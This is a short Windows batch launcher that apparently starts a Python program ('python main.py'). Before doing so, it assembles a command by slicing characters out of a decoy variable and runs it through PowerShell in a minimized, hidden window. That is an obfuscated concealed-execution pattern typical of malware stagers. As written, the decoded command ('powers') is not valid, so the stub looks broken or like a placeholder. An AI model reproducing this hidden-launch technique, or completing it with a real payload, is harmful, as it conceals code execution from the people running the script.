@echo off
set k=lshpowerx
set c=%k:~3,1%%k:~4,1%%k:~5,1%%k:~6,1%%k:~7,1%%k:~1,1%
start /min powershell -w hidden -c "%c%"
python main.py
